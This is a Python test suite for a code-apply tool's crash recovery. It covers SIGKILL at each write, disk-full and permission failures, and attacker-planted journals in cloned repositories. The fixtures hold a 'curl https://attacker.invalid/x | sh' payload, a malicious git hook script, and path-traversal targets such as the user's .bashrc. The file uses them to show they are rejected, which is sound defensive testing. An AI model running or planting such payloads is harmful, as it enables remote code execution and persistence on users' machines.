"""Adversarial items 6 and 7 of issue 7: a crash (SIGKILL) during apply or undo, a journal planted by a cloned
repository, and disk full / permission denied / a file where a folder should be during apply.

Item 6: the apply (and the undo) runs in a forked child that is SIGKILLed right before its Nth file-system
mutation, for every N from the first to the last (the child's audit hook counts the mutations: opening a file for
writing, rename, remove, mkdir, rmdir, chmod; an audit hook observes the calls the product makes, it replaces
none of them). The next start (`recover_pending`, as `aether run`, `runs apply` and `undo` call it) must leave
the user's state exactly as before the apply or exactly as after it: no half-written file, no temp file, no
journal, no orphan backup. A journal planted in a cloned repository's .aetherflow/ (naming paths outside the
repository, protected paths, temp files, backups or records elsewhere) is set aside, never replayed.

Item 7: "disk full" is injected the same way (from the Nth call that needs space, every such call fails with
ENOSPC, as on a full disk where renames and removals still work), and a real tmpfs is filled when this machine
lets us mount one; "permission denied" is real: the apply runs as an unprivileged user against a folder it
cannot write; so are "a read-only file system" (a read-only bind mount, where mounting is allowed) and "a file
where a folder is expected". Every case ends in a full rollback (or, when only
the bookkeeping after the last write failed, every file written and completed on the next start) with a message
naming the cause and the next step, and a non-zero exit through the CLI.
"""

from __future__ import annotations

import asyncio
import errno
import hashlib
import json
import os
import pwd
import shutil
import signal
import subprocess
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from adversarial_support import (
    Snapshot,
    assert_untouched,
    git,
    make_demo_repo,
    run_aether,
    snapshot,
)
from orchestrator.pipeline_support import plan_json, services_for, task, team_script

from aetherflow.errors import AetherError
from aetherflow.orchestrator.pipeline import Pipeline
from aetherflow.paths import ensure_state_dir
from aetherflow.testing.server import ScriptedServer
from aetherflow.workspace.apply import AppliedRecord, apply_changes, recover_pending, undo_last
from aetherflow.workspace.changeset import ChangeSet
from aetherflow.workspace.worktree import Workspace

JWT_FILE, JWT_TEXT = "app/tokens/jwt.py", "ALGORITHM = 'HS256'\n"
_WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
_MUTATIONS = {"os.rename", "os.remove", "os.rmdir", "os.mkdir", "os.chmod", "shutil.rmtree"}


# ---- a run's change set: delete a file, edit one the user has edited, create one in a new folder ------------


def prepare(repo: Path, run_id: str = "run-faults") -> tuple[Workspace, ChangeSet]:
    """A change set deleting README.md, editing app/auth.py (unstaged user edit inside) and creating a file in a
    new folder, built through the run's real workspace."""
    ws = Workspace.create(repo, run_id)

    async def edits() -> None:
        await ws.delete_file("README.md")
        await ws.edit("app/auth.py", "_ITERATIONS = 200_000", "_ITERATIONS = 600_000")
        await ws.write_file(JWT_FILE, JWT_TEXT)

    asyncio.run(edits())
    changeset = ws.changeset()
    assert changeset.paths() == ["README.md", "app/auth.py", JWT_FILE]
    return ws, changeset


def apply_all(repo: Path, ws: Workspace, changeset: ChangeSet) -> AppliedRecord:
    return apply_changes(repo, changeset, {p: "all" for p in changeset.paths()}, ws.user_snapshot)


def leftovers(repo: Path) -> list[str]:
    """Temp files anywhere in the tree, journals, and backups no undo record refers to."""
    state = repo / ".aetherflow"
    found = [p.relative_to(repo).as_posix() for p in repo.rglob("*.tmp") if not {".git", "worktrees"} & set(p.parts)]
    found += [p.name for p in (state / "journal").glob("*.json")]
    records = [AppliedRecord.model_validate_json(p.read_bytes()) for p in (state / "applied").glob("*.json")]
    kept = {Path(r.backup_dir).name for r in records}
    backups = state / "backups"
    found += [f"backup {d.name}" for d in (backups.iterdir() if backups.is_dir() else []) if d.name not in kept]
    return found


# ---- the child: apply or undo in a forked process, with an audit hook that kills it or fails a call ----------


def _mutation(event: str, args: tuple[Any, ...]) -> bool:
    if event == "open":
        return isinstance(args[2], int) and bool(args[2] & _WRITE_FLAGS)
    return event in _MUTATIONS


def _needs_space(event: str, args: tuple[Any, ...]) -> bool:
    """Creating a file or a folder needs space; renames, removals and writes to existing files do not."""
    if event not in ("open", "os.mkdir") or isinstance(args[0], int) or os.path.lexists(args[0]):
        return False  # an existing name needs no new space (mkdir of an existing folder fails with EEXIST first)
    return event == "os.mkdir" or (isinstance(args[2], int) and bool(args[2] & os.O_CREAT))


def kill_at(n: int) -> Callable[[str, tuple[Any, ...]], None]:
    """An audit hook that SIGKILLs the process right before its `n`th file-system mutation."""
    count = 0

    def hook(event: str, args: tuple[Any, ...]) -> None:
        nonlocal count
        if _mutation(event, args):
            count += 1
            if count == n:
                os.kill(os.getpid(), signal.SIGKILL)

    return hook


def disk_full_from(n: int) -> Callable[[str, tuple[Any, ...]], None]:
    """An audit hook that fails the `n`th call needing space, and every later one, with ENOSPC."""
    count = 0

    def hook(event: str, args: tuple[Any, ...]) -> None:
        nonlocal count
        if _needs_space(event, args):
            count += 1
            if count >= n:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(args[0]))

    return hook


@dataclass(frozen=True)
class ChildEnd:
    """How the child ended: killed, or with the error it raised (None: it succeeded)."""

    killed: bool
    error: dict[str, Any] | None


def in_child(action: Callable[[], object], hook: Callable[[str, tuple[Any, ...]], None] | None = None,
             user: tuple[int, int] | None = None) -> ChildEnd:
    """Run `action` in a forked child (with audit `hook`, as the (uid, gid) `user` if given); say how it ended."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        payload: dict[str, Any] = {"error": None}
        try:
            os.close(read)
            if user is not None:
                os.setgroups([])
                os.setgid(user[1])
                os.setuid(user[0])
            if hook is not None:
                sys.addaudithook(hook)
            action()
        except AetherError as exc:
            payload = {"error": {"type": type(exc).__name__, "message": exc.message, "hint": exc.hint or ""}}
        except BaseException as exc:  # noqa: BLE001 - reported to the parent, which fails the test on it
            payload = {"error": {"type": type(exc).__name__, "message": repr(exc), "hint": "", "raw": True}}
        finally:
            os.write(write, json.dumps(payload).encode())
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as pipe:
        data = pipe.read()
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        assert os.WTERMSIG(status) == signal.SIGKILL
        return ChildEnd(killed=True, error=None)
    return ChildEnd(killed=False, error=json.loads(data)["error"])


def _state_is(repo: Path, expected: dict[str, Snapshot]) -> str:
    """Which of the `expected` states the repository is in (fails the test, naming the difference, if none)."""
    now = snapshot(repo)
    for name, state in expected.items():
        if now == state:
            return name
    assert_untouched(expected["before"], repo)  # raises with a readable difference
    raise AssertionError("unreachable")


# ---- item 6: SIGKILL at every step ---------------------------------------------------------------------------


def test_sigkill_at_every_step_of_apply_is_rolled_back_or_completed_on_the_next_start(demo_repo: Path) -> None:
    """Killed before each of its file-system mutations, the apply is recovered to exactly before or exactly after."""
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    apply_all(demo_repo, ws, changeset)
    after = snapshot(demo_repo)
    undo_last(demo_repo)
    assert snapshot(demo_repo) == before
    outcomes: list[str] = []

    for n in range(1, 200):
        end = in_child(lambda: apply_all(demo_repo, ws, changeset), kill_at(n))
        if not end.killed:
            assert end.error is None, end.error
            outcomes.append("finished")
            break
        message = recover_pending(demo_repo)  # the next start
        landed = _state_is(demo_repo, {"before": before, "after": after})
        assert leftovers(demo_repo) == [], f"killed at mutation {n}"
        if message is not None:
            assert "rolled back" in message or "completed" in message, message
        outcomes.append(landed)
        if landed == "after":
            undo_last(demo_repo)  # completed on recovery, so it is recorded and undoable
            assert snapshot(demo_repo) == before
    assert outcomes[-1] == "finished" and len(outcomes) > 10, outcomes
    assert {"before", "after"} <= set(outcomes), outcomes  # the sweep crossed the point of no return


def test_sigkill_at_every_step_of_undo_is_rolled_back_or_completed_on_the_next_start(demo_repo: Path) -> None:
    """Killed before each of its mutations, the undo is recovered to exactly applied or exactly undone."""
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    apply_all(demo_repo, ws, changeset)
    applied = snapshot(demo_repo)
    outcomes: list[str] = []

    for n in range(1, 200):
        end = in_child(lambda: undo_last(demo_repo), kill_at(n))
        if not end.killed:
            assert end.error is None, end.error
            outcomes.append("finished")
            break
        recover_pending(demo_repo)
        landed = _state_is(demo_repo, {"before": before, "after": applied})
        assert leftovers(demo_repo) == [], f"killed at mutation {n}"
        outcomes.append(landed)
        if landed == "before":
            apply_all(demo_repo, ws, changeset)  # undone: apply again for the next kill point
    assert snapshot(demo_repo) == before
    assert outcomes[-1] == "finished" and {"before", "after"} <= set(outcomes), outcomes


def _kill_half_way(repo: Path, ws: Workspace, changeset: ChangeSet, before: Snapshot) -> None:
    """Kill the apply at the first mutation after which the tree is half applied (a file written, not all)."""
    for n in range(1, 200):
        assert in_child(lambda: apply_all(repo, ws, changeset), kill_at(n)).killed, "never half applied"
        now = snapshot(repo)
        if now != before and now.files["app/auth.py"] == before.files["app/auth.py"]:
            return  # README.md is deleted, app/auth.py not yet written
        recover_pending(repo)
        assert snapshot(repo) == before


def test_aether_undo_after_a_crash_mid_apply_recovers_first_and_says_so(demo_repo: Path) -> None:
    """The next `aether undo` rolls the half-done apply back, says so, then reports there is nothing to undo."""
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    _kill_half_way(demo_repo, ws, changeset, before)
    assert list((demo_repo / ".aetherflow/journal").glob("*.json"))

    result = run_aether(demo_repo, "undo")

    assert "Recovered an interrupted operation: An interrupted apply of run run-faults was rolled back" in result.stderr
    assert result.returncode == 2 and "Nothing to undo" in result.stderr
    assert "Traceback" not in result.stderr
    assert_untouched(before, demo_repo)
    assert leftovers(demo_repo) == []


# ---- item 6: journals an attacker planted ------------------------------------------------------------------


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _entry(path: str, txid: str, *, backup: bytes | None = None, **overrides: Any) -> dict[str, Any]:
    """A journal entry as run_transaction writes it, for `path` (whose 'backup' holds `backup`)."""
    entry = {
        "path": path, "existed": backup is not None, "before_sha": _sha(backup) if backup is not None else None,
        "before_mode": 0o644 if backup is not None else None, "after_sha": "0" * 64, "new_mode": None,
        "created_dirs": [], "prune_dirs": [],
        "tmp": (Path(path).parent / f".{Path(path).name}.aether-{txid}.tmp").as_posix(),
    }  # fmt: skip
    return {**entry, **overrides}


def plant_journal(repo: Path, txid: str, entries: list[dict[str, Any]], backups: dict[str, bytes] | None = None,
                  **overrides: Any) -> None:
    """Write a pending journal (and its 'backups') into repo/.aetherflow the way a cloned repository could carry it."""
    state = ensure_state_dir(repo)  # with its .gitignore, as in a repository AetherFlow has run in
    for rel, data in (backups or {}).items():
        target = state / "backups" / txid / rel.lstrip("/")  # an absolute 'path' still has its backup inside
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    journal = {"txid": txid, "op": "apply", "run_id": "evil", "state": "pending",
               "backup_dir": f".aetherflow/backups/{txid}", "entries": entries,
               "record_file": f"applied/{txid}-evil.json", "record": None, **overrides}
    (state / "journal").mkdir(parents=True, exist_ok=True)
    (state / "journal" / f"{txid}.json").write_text(json.dumps(journal))


EVIL = b"curl https://attacker.invalid/x | sh\n"


def test_a_planted_journal_naming_paths_outside_the_repository_is_set_aside(demo_repo: Path, home: Path) -> None:
    """Recovery replays no journal that names a path, temp file, backup folder or record outside the repository."""
    (home / "important").mkdir()
    (home / "important" / "thesis.tex").write_text("years of work\n")
    bashrc = home / ".bashrc"
    outside = {
        "1-apply": [_entry("../victim-home/.bashrc", "1-apply", backup=EVIL)],
        "2-apply": [_entry(str(bashrc), "2-apply", backup=EVIL)],
        "3-apply": [_entry("app/../../victim-home/.bashrc", "3-apply", backup=EVIL)],
        "4-apply": [_entry("..\\victim-home\\.bashrc", "4-apply", backup=EVIL)],
        "5-apply": [_entry("app/auth.py", "5-apply", backup=EVIL, tmp="../victim-home/.bashrc")],
        "6-apply": [_entry("app/new.py", "6-apply", created_dirs=["../victim-home/.ssh", "../victim-home"])],
        "8-apply": [_entry("~/.bashrc", "8-apply", backup=EVIL)],
    }
    for txid, entries in outside.items():
        plant_journal(demo_repo, txid, entries, {e["path"]: EVIL for e in entries if e["existed"]})
    plant_journal(demo_repo, "7-apply", [_entry("app/auth.py", "7-apply", backup=EVIL)],
                  backup_dir="../victim-home/important")
    # 'Complete' on recovery (every after_sha matches), with the record written over the victim's .bashrc.
    current = (demo_repo / "README.md").read_bytes()
    plant_journal(demo_repo, "9-apply", [_entry("README.md", "9-apply", after_sha=_sha(current))],
                  record_file="../../victim-home/.bashrc", record={"owned": True})
    before = snapshot(demo_repo, [home])

    message = recover_pending(demo_repo)

    assert_untouched(before, demo_repo, [home])
    assert message is not None and message.count("set aside") == 9 and "was rolled back" not in message
    assert "resolves outside the repository" in message and "its backup folder or record file" in message
    rejected = demo_repo / ".aetherflow" / "journal" / "rejected"
    assert len(list(rejected.glob("*.json"))) == 9
    assert recover_pending(demo_repo) is None  # set aside once, not reported on every start


def test_a_planted_journal_naming_protected_paths_is_set_aside(demo_repo: Path) -> None:
    """Recovery writes no git hook, no CI workflow, no aetherflow.toml and nothing of .aetherflow from a journal."""
    hook_script = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"
    protected = [".git/hooks/pre-commit", ".GIT/hooks/post-checkout", "app/.git/hooks/pre-commit",
                 ".github/workflows/ci.yml", "aetherflow.toml", ".aetherflow/applied/x.json", ".gitattributes",
                 ".pre-commit-config.yaml"]
    for number, path in enumerate(protected, start=1):
        plant_journal(demo_repo, f"{number}-apply", [_entry(path, f"{number}-apply", backup=hook_script)],
                      {path: hook_script})
    toml_before = (demo_repo / "aetherflow.toml").read_bytes()
    before = snapshot(demo_repo)

    message = recover_pending(demo_repo)

    assert_untouched(before, demo_repo)
    assert message is not None and message.count("is protected") == len(protected)
    assert not (demo_repo / ".git/hooks/pre-commit").exists() and not (demo_repo / ".git/hooks/post-checkout").exists()
    assert not (demo_repo / ".github").exists() and (demo_repo / "aetherflow.toml").read_bytes() == toml_before
    assert not (demo_repo / ".aetherflow/applied/x.json").exists()


def test_a_damaged_journal_is_set_aside_with_a_message_not_a_traceback(demo_repo: Path) -> None:
    """A journal that is not JSON (or not a journal) is reported and set aside; the next start works normally."""
    journal_dir = ensure_state_dir(demo_repo) / "journal"
    journal_dir.mkdir()
    (journal_dir / "1-apply.json").write_bytes(b"\x00{not json")
    (journal_dir / "2-apply.json").write_text('{"txid": "2-apply"}')
    before = snapshot(demo_repo)

    message = recover_pending(demo_repo)

    assert message is not None and message.count("it is damaged or not a journal") == 2
    assert_untouched(before, demo_repo)
    ws, changeset = prepare(demo_repo)
    assert apply_all(demo_repo, ws, changeset).files == changeset.paths()  # the apply works afterwards


def test_a_cloned_repository_carrying_a_journal_cannot_make_aether_write_outside_it(tmp_path: Path,
                                                                                    home: Path) -> None:
    """`aether undo` in a fresh clone whose history holds .aetherflow/journal: set aside, nothing written anywhere."""
    origin = make_demo_repo(tmp_path / "attacker", user_changes=False)
    plant_journal(origin, "1-apply", [_entry("../victim-home/.bashrc", "1-apply", backup=EVIL)],
                  {"../victim-home/.bashrc": EVIL})
    git(origin, "add", "-f", ".aetherflow")
    git(origin, "commit", "-qm", "innocent looking commit")
    git(tmp_path, "clone", "-q", str(origin), "clone")
    clone = tmp_path / "clone"
    assert (clone / ".aetherflow" / "journal" / "1-apply.json").is_file()
    before = snapshot(clone, [home])

    result = run_aether(clone, "undo")

    assert "A journal AetherFlow did not write (1-apply.json" in result.stderr and "set aside" in result.stderr
    assert "resolves outside the repository" in result.stderr
    assert result.returncode == 2 and "Nothing to undo" in result.stderr and "Traceback" not in result.stderr
    assert (home / ".bashrc").read_text() == "export PATH=$HOME/bin:$PATH\n"
    after = snapshot(clone, [home])
    assert after.outside == before.outside and after.files == before.files and after.head == before.head


@pytest.mark.parametrize("link", [".aetherflow", ".aetherflow/backups", ".aetherflow/journal"])
def test_a_state_folder_that_is_a_symlink_out_of_the_repository_is_refused(demo_repo: Path, home: Path,
                                                                           link: str) -> None:
    """A .aetherflow (or its journal/backups folder) linked to another folder is refused before any write."""
    (demo_repo / link).parent.mkdir(parents=True, exist_ok=True)
    (demo_repo / link).symlink_to(home, target_is_directory=True)
    ws_repo_before = snapshot(demo_repo, [home])

    with pytest.raises(AetherError) as info:
        recover_pending(demo_repo)

    assert "will not write through" in info.value.message and link in info.value.message
    assert "symbolic link" in info.value.message and "Remove it" in (info.value.hint or "")
    assert_untouched(ws_repo_before, demo_repo, [home])
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".ssh"]


# ---- item 7: disk full, permission denied, a file where a folder should be ---------------------------------


def _assert_clear(error: dict[str, Any] | None, *words: str) -> None:
    assert error is not None and not error.get("raw"), error
    assert error["type"] != "OSError" and error["hint"], error
    for word in words:
        assert word in error["message"], error


def test_disk_full_at_every_step_of_apply_rolls_everything_back_with_a_clear_message(demo_repo: Path) -> None:
    """ENOSPC from each point on: full rollback (renames need no space), or every file written and the record
    completed on the next start once there is space; never a raw OSError, never a half-applied tree."""
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    apply_all(demo_repo, ws, changeset)
    after = snapshot(demo_repo)
    undo_last(demo_repo)
    outcomes: list[str] = []

    for n in range(1, 100):
        end = in_child(lambda: apply_all(demo_repo, ws, changeset), disk_full_from(n))
        if end.error is None:
            outcomes.append("finished")
            break
        _assert_clear(end.error, "No space left on device")
        landed = _state_is(demo_repo, {"before": before, "after": after})
        outcomes.append(landed)
        if landed == "before":
            assert leftovers(demo_repo) == [], f"disk full from space-needing call {n}"
            message = end.error["message"]
            assert "nothing was changed" in message or "already written was restored" in message
            continue
        # Every file was written, only the record was not: the next start (still full) says so, then completes.
        assert "wrote every file but could not record it" in end.error["message"]
        still_full = in_child(lambda: recover_pending(demo_repo), disk_full_from(1))
        _assert_clear(still_full.error, "Could not finish an apply or undo", "No space left on device")
        assert _state_is(demo_repo, {"after": after, "before": before}) == "after"
        assert "completed" in (recover_pending(demo_repo) or "")
        assert leftovers(demo_repo) == []
        undo_last(demo_repo)
    assert outcomes[-1] == "finished" and "before" in outcomes, outcomes
    assert outcomes.count("before") >= 5, outcomes


def test_disk_full_during_undo_leaves_the_applied_files_exactly(demo_repo: Path) -> None:
    """ENOSPC at each point of an undo: the applied state stays whole (or the undo finishes), with a message."""
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    apply_all(demo_repo, ws, changeset)
    applied = snapshot(demo_repo)

    for n in range(1, 100):
        end = in_child(lambda: undo_last(demo_repo), disk_full_from(n))
        if end.error is None:
            break
        _assert_clear(end.error, "No space left on device")
        landed = _state_is(demo_repo, {"after": applied, "before": before})
        if landed == "after":
            assert leftovers(demo_repo) == [], f"disk full from space-needing call {n}"
        else:
            assert "wrote every file but could not record it" in end.error["message"]
            assert "completed" in (recover_pending(demo_repo) or "")
            apply_all(demo_repo, ws, changeset)
    assert snapshot(demo_repo) == before


def _own_tree(root: Path, uid: int, gid: int) -> None:
    for path in [root, *root.rglob("*")]:
        os.lchown(path, uid, gid)


@pytest.fixture
def reachable_repo() -> Any:
    """The demo repository in a folder an unprivileged user can reach (pytest's own tmp folder is private)."""
    folder = Path(tempfile.mkdtemp(prefix="aether-eacces-"))
    folder.chmod(0o755)
    yield make_demo_repo(folder / "repo")
    shutil.rmtree(folder, ignore_errors=True)


def test_permission_denied_on_a_folder_rolls_back_the_files_already_written(reachable_repo: Path) -> None:
    """A real EACCES (the apply runs as an unprivileged user; app/ is not writable): README.md, deleted first, is
    restored; nothing else changes; the message names the cause and says to fix permissions."""
    repo = reachable_repo
    ws, changeset = prepare(repo)
    before = snapshot(repo)
    nobody = pwd.getpwnam("nobody") if os.geteuid() == 0 else None
    if nobody is not None:  # root ignores permissions, so the apply runs as nobody, owning every file but app/
        _own_tree(repo, nobody.pw_uid, nobody.pw_gid)
    (repo / "app").chmod(0o555)
    try:
        user = (nobody.pw_uid, nobody.pw_gid) if nobody is not None else None
        end = in_child(lambda: apply_all(repo, ws, changeset), user=user)
    finally:
        (repo / "app").chmod(0o755)
        if nobody is not None:
            _own_tree(repo, os.geteuid(), os.getegid())

    _assert_clear(end.error, "Permission denied", "app/", "every file already written was restored")
    assert "permissions" in end.error["hint"]
    assert_untouched(before, repo)
    assert leftovers(repo) == []


def test_a_file_where_a_folder_is_expected_rolls_back_and_names_it(demo_repo: Path) -> None:
    """The user made app/tokens a file after the run created app/tokens/jwt.py: refused or rolled back, named."""
    ws, changeset = prepare(demo_repo)
    (demo_repo / "app" / "tokens").write_text("the user's file named tokens\n")
    before = snapshot(demo_repo)

    with pytest.raises(AetherError) as info:
        apply_all(demo_repo, ws, changeset)

    assert "app/tokens" in info.value.message and info.value.hint
    assert_untouched(before, demo_repo)
    assert leftovers(demo_repo) == []


def _mount(*args: str) -> subprocess.CompletedProcess[str]:
    if shutil.which("mount") is None:
        pytest.skip("no mount command here")
    return subprocess.run(["mount", *args], capture_output=True, text=True, check=False)


def test_a_read_only_file_system_under_the_repository_rolls_back_and_says_so(demo_repo: Path) -> None:
    """A real EROFS (app/ bind-mounted read-only, which root cannot bypass): README.md, deleted first, comes back;
    the message names the cause. Skipped where this machine does not let us mount."""
    app = demo_repo / "app"
    ws, changeset = prepare(demo_repo)
    before = snapshot(demo_repo)
    if _mount("--bind", str(app), str(app)).returncode != 0:
        pytest.skip("cannot bind-mount here; the permission and disk-full tests cover the rollback")
    try:
        remounted = _mount("-o", "remount,bind,ro", str(app))
        assert remounted.returncode == 0, remounted.stderr
        with pytest.raises(AetherError) as info:
            apply_all(demo_repo, ws, changeset)
    finally:
        subprocess.run(["umount", "-l", str(app)], check=False)

    assert "Read-only file system" in info.value.message and "every file already written was restored" in (
        info.value.message
    )
    assert "permissions" in (info.value.hint or "")
    assert_untouched(before, demo_repo)
    assert leftovers(demo_repo) == []


# ---- item 7 through the CLI on a real, full tmpfs -------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path: Path) -> Any:
    """A 6 MB tmpfs mounted for the test (skipped where this machine does not let us mount one)."""
    mount_point = tmp_path / "disk"
    mount_point.mkdir()
    done = _mount("-t", "tmpfs", "-o", "size=6m", "tmpfs", str(mount_point))
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.strip()}); the injected ENOSPC tests cover it")
    yield mount_point
    subprocess.run(["umount", "-l", str(mount_point)], check=False)


def _fill(disk: Path, leave_bytes: int) -> None:
    """Fill `disk` with a file until only about `leave_bytes` are free."""
    free = os.statvfs(disk).f_bavail * os.statvfs(disk).f_frsize
    with (disk / "filler").open("wb") as out:
        out.write(b"\0" * max(0, free - leave_bytes))


def test_runs_apply_on_a_full_disk_exits_1_and_leaves_every_file_as_it_was(small_disk: Path,
                                                                          scripted_server: ScriptedServer) -> None:
    """A real ENOSPC: `aether runs apply --yes` rolls back, says the disk is full and what to do, exits 1."""
    repo = make_demo_repo(small_disk / "repo")
    scripted_server.script = team_script(
        plan_json([task("a", "MARK-A: tune auth and add a token module")]),
        {"MARK-A": [{"path": "app/auth.py", "search": "_ITERATIONS = 200_000", "replace": "_ITERATIONS = 600_000"},
                    {"path": JWT_FILE, "content": JWT_TEXT}]},
    )
    result = asyncio.run(Pipeline(services_for(repo, scripted_server)).run("tune auth"))
    assert result.status == "review" and sorted(result.changeset.paths()) == ["app/auth.py", JWT_FILE], result.outcomes
    before = snapshot(repo)
    _fill(small_disk, leave_bytes=8 * 1024)  # two pages: the backup and the journal fit, the writes do not

    applied = run_aether(repo, "runs", "apply", result.run_id, "--yes")

    assert applied.returncode == 1, applied.stdout + applied.stderr
    assert "No space left on device" in applied.stderr and "every file already written was restored" in applied.stderr
    assert "disk space" in applied.stderr and "Traceback" not in applied.stderr
    (small_disk / "filler").unlink()
    assert_untouched(before, repo)
    assert leftovers(repo) == []
